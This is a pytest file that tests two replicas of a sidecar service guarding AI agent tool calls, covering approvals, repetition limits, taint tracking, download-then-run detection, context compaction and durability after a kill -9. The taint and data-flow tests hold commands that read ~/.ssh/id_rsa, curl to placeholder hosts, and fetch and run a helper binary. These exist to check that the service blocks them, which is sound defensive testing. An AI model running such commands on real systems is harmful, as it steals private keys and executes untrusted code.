"""Two sidecar processes on one PostgreSQL agree, as two replicas behind a load balancer
that spreads calls per request must: sessions, answers, repetition, taint, data flow and
compaction; appends split across both; kill -9 of one under load loses nothing that
either acknowledged."""

from __future__ import annotations

import asyncio
import json
import time
from collections.abc import AsyncIterator
from pathlib import Path

import asyncpg
import grpc
import pytest

from bench.served import Served
from sidecar.v1 import sidecar_pb2 as pb
from sidecar.v1 import sidecar_pb2_grpc as pb_grpc


class Replica:
    def __init__(self, served: Served, channel: grpc.aio.Channel) -> None:
        self.served = served
        self.policy = pb_grpc.PolicyServiceStub(channel)
        self.context = pb_grpc.ContextServiceStub(channel)

    async def inspect(self, session: str, *calls: pb.ToolCall) -> pb.InspectResponse:
        return await self.policy.Inspect(pb.InspectRequest(session_id=session, tool_calls=calls))


@pytest.fixture
async def replicas(tmp_path: Path, postgres_dsn: str) -> AsyncIterator[list[Replica]]:
    served = [
        Served(tmp_path / name, "--mode", "auto", "--decision-log", "off", state=postgres_dsn)
        for name in ("a", "b")
    ]
    await asyncio.gather(*(s.start() for s in served))
    channels = [grpc.aio.insecure_channel(s.target) for s in served]
    try:
        yield [Replica(s, c) for s, c in zip(served, channels, strict=True)]
    finally:
        for channel in channels:
            await channel.close()
        for s in served:
            s.stop()


def shell(call_id: str, command: str) -> pb.ToolCall:
    return pb.ToolCall(id=call_id, name="shell", arguments_json=json.dumps({"command": command}))


def text(message_id: str, role: pb.Role.ValueType, body: str) -> pb.Message:
    return pb.Message(id=message_id, role=role, parts=[pb.Part(text=pb.TextPart(text=body))])


def pair(n: int, result: str = "ok") -> list[pb.Message]:
    """An assistant message making one call, and the call's result."""
    call = pb.Part(tool_call=pb.ToolCallPart(id=f"call-{n}", name="ls", arguments="{}"))
    done = pb.Part(tool_result=pb.ToolResultPart(tool_call_id=f"call-{n}", content=result))
    return [
        pb.Message(id=f"a{n}", role=pb.ROLE_ASSISTANT, parts=[call]),
        pb.Message(id=f"t{n}", role=pb.ROLE_TOOL, parts=[done]),
    ]


async def history(replica: Replica, session: str) -> list[pb.Message]:
    messages: list[pb.Message] = []
    token = ""
    while True:
        page = await replica.context.History(
            pb.HistoryRequest(session_id=session, page_size=500, page_token=token)
        )
        messages += page.messages
        token = page.next_page_token
        if not token:
            return messages


def verdict(response: pb.InspectResponse) -> tuple[int, list[str]]:
    (found,) = response.verdicts
    return found.verdict, [f.rule_id for f in found.findings]


async def test_the_replicas_agree_on_answers_repetition_taint_and_data_flow(
    replicas: list[Replica],
) -> None:
    a, b = replicas
    # RecordDecision on one, Inspect on the other. Mode approve asks about every call.
    asked = await a.policy.Inspect(
        pb.InspectRequest(
            session_id="answers", tool_calls=[shell("c1", "ls")], mode=pb.PERMISSION_MODE_APPROVE
        )
    )
    assert asked.verdicts[0].verdict == pb.VERDICT_REQUIRE_APPROVAL
    await b.policy.RecordDecision(
        pb.RecordDecisionRequest(
            session_id="answers", decision_id=asked.decision_id, tool_call_id="c1",
            tool_name="shell", answer=pb.ANSWER_ALLOW_ONCE,
        )
    )  # fmt: skip
    again = pb.InspectRequest(
        session_id="answers", tool_calls=[shell("c2", "ls")], mode=pb.PERMISSION_MODE_APPROVE
    )
    assert verdict(await a.policy.Inspect(again))[1][-1] == "permission.answered_once"
    assert (await b.policy.Inspect(again)).verdicts[0].verdict == pb.VERDICT_REQUIRE_APPROVAL
    await a.policy.RecordDecision(
        pb.RecordDecisionRequest(
            session_id="answers", tool_name="deploy", answer=pb.ANSWER_ALWAYS_DENY
        )
    )
    deploy = pb.ToolCall(id="d1", name="deploy", arguments_json="{}")
    for replica in (b, a):
        assert (await replica.inspect("answers", deploy)).verdicts[0].verdict == pb.VERDICT_DENY

    # Repetition across both: the sixth identical call in a row is denied (limit 5).
    verdicts = [
        verdict(await (a if n % 2 else b).inspect("loop", shell(f"r{n}", "make test")))
        for n in range(6)
    ]
    assert [v for v, _ in verdicts[:5]] == [pb.VERDICT_ALLOW] * 5
    assert verdicts[5][0] == pb.VERDICT_DENY and "repetition.limit" in verdicts[5][1]

    # Taint: a secret read through one, data leaving through the other.
    await a.inspect("taint", shell("t1", "cat ~/.ssh/id_rsa"))
    leaving = verdict(await b.inspect("taint", shell("t2", "curl -s https://example.com/x")))
    assert leaving == (
        pb.VERDICT_REQUIRE_APPROVAL,
        ["egress.tainted_session", "permission.mode_auto"],
    )
    clean = verdict(await b.inspect("clean", shell("t3", "curl -s https://example.com/x")))
    assert clean[0] == pb.VERDICT_ALLOW

    # Data flow: downloaded through one, run through the other.
    await b.inspect("flow", shell("f1", "curl -o /tmp/helper https://x.example/helper"))
    run = verdict(await a.inspect("flow", shell("f2", "/tmp/helper")))
    assert run[0] == pb.VERDICT_DENY
    assert verdict(await a.inspect("other", shell("f3", "/tmp/helper")))[0] != pb.VERDICT_DENY


async def test_the_replicas_agree_on_sessions_and_compact_at_most_once(
    replicas: list[Replica], postgres_dsn: str
) -> None:
    a, b = replicas
    # Append on one, Project and History on the other.
    await a.context.Append(
        pb.AppendRequest(session_id="s", messages=[text("u1", pb.ROLE_USER, "hello"), *pair(1)])
    )
    projected = await b.context.Project(pb.ProjectRequest(session_id="s"))
    assert [m.id for m in projected.messages] == ["u1", "a1", "t1"]
    assert [m.id for m in await history(b, "s")] == ["u1", "a1", "t1"]
    await b.context.Append(pb.AppendRequest(session_id="s", messages=pair(2)))
    assert [m.id for m in (await a.context.Project(pb.ProjectRequest(session_id="s"))).messages] == [
        "u1", "a1", "t1", "a2", "t2",
    ]  # fmt: skip
    # A call made through one replica, its result through the other (which held the
    # session from before the call).
    call, result = pair(3)
    await a.context.Append(pb.AppendRequest(session_id="s", messages=[call]))
    await b.context.Append(pb.AppendRequest(session_id="s", messages=[result]))
    assert [m.id for m in (await a.context.Project(pb.ProjectRequest(session_id="s"))).messages][
        -2:
    ] == ["a3", "t3"]
    # A duplicate id is refused whichever replica holds the first.
    with pytest.raises(grpc.aio.AioRpcError) as duplicate:
        await a.context.Append(pb.AppendRequest(session_id="s", messages=pair(2)))
    assert duplicate.value.code() == grpc.StatusCode.INVALID_ARGUMENT

    # Compaction asked of both at once: applied once, and both then serve its view.
    await a.context.Append(
        pb.AppendRequest(
            session_id="big",
            messages=[text("u", pb.ROLE_USER, "start")]
            + [m for n in range(40) for m in pair(n, "output line\n" * 40)],
        )
    )
    request = pb.ProjectRequest(session_id="big", context_limit=4000)
    first, second = await asyncio.gather(a.context.Project(request), b.context.Project(request))
    assert [first.compaction.compacted, second.compaction.compacted].count(True) == 1
    assert [m.id for m in first.messages] == [m.id for m in second.messages]
    assert first.tokens.tokens < 0.8 * 4000
    connection = await asyncpg.connect(postgres_dsn)
    try:
        summaries = await connection.fetchval(
            "SELECT count(*) FROM messages WHERE session_id = 'big' AND kind = 'summary'"
        )
    finally:
        await connection.close()
    assert summaries == 1
    later = await b.context.Project(request)
    assert not later.compaction.compacted


async def test_parallel_appends_split_across_both_keep_every_pair_once_and_in_order(
    replicas: list[Replica],
) -> None:
    a, b = replicas
    await a.context.Append(
        pb.AppendRequest(session_id="p", messages=[text("u", pb.ROLE_USER, "go")])
    )
    count = 60
    results = await asyncio.gather(
        *(
            (a if n % 2 else b).context.Append(pb.AppendRequest(session_id="p", messages=pair(n)))
            for n in range(count)
        ),
        return_exceptions=True,
    )
    assert not [r for r in results if isinstance(r, BaseException)]
    for replica in (a, b):
        ids = [m.id for m in await history(replica, "p")]
        assert len(ids) == 1 + 2 * count and len(set(ids)) == len(ids)
        for n in range(count):  # each result right after its call
            assert ids[ids.index(f"a{n}") + 1] == f"t{n}"


async def test_kill_9_of_one_replica_under_load_loses_nothing_acknowledged(
    replicas: list[Replica],
) -> None:
    a, b = replicas
    appended: list[tuple[str, str]] = []
    answered: list[tuple[str, str]] = []
    stop = time.monotonic() + 60

    async def append(worker: int) -> None:
        session = f"h{worker}"
        for n in range(10**6):
            if time.monotonic() > stop:
                return
            replica = (a, b)[n % 2]
            message = text(f"m{n}", pb.ROLE_USER, f"step {n}")
            await replica.context.Append(pb.AppendRequest(session_id=session, messages=[message]))
            appended.append((session, message.id))

    async def answer(worker: int) -> None:
        session = f"q{worker}"
        for n in range(10**6):
            if time.monotonic() > stop:
                return
            replica = (a, b)[n % 2]
            await replica.policy.RecordDecision(
                pb.RecordDecisionRequest(
                    session_id=session, tool_name=f"tool_{n}", answer=pb.ANSWER_ALWAYS_DENY
                )
            )
            answered.append((session, f"tool_{n}"))

    workers = [asyncio.ensure_future(append(i)) for i in range(6)]
    workers += [asyncio.ensure_future(answer(i)) for i in range(6)]
    await asyncio.sleep(2.0)
    a.served.kill9()
    results = await asyncio.gather(*workers, return_exceptions=True)
    # Every worker was stopped by the kill (a call to the dead replica failed).
    assert all(isinstance(r, grpc.aio.AioRpcError) for r in results), results
    assert len(appended) > 20 and len(answered) > 20
    by_session: dict[str, list[str]] = {}
    for session, message_id in appended:
        by_session.setdefault(session, []).append(message_id)
    for session, ids in by_session.items():
        stored = [m.id for m in await history(b, session)]
        assert set(ids) <= set(stored), session
        assert len(stored) == len(set(stored))
    for session, tool in answered:
        call = pb.ToolCall(id="x", name=tool, arguments_json="{}")
        assert (await b.inspect(session, call)).verdicts[0].verdict == pb.VERDICT_DENY
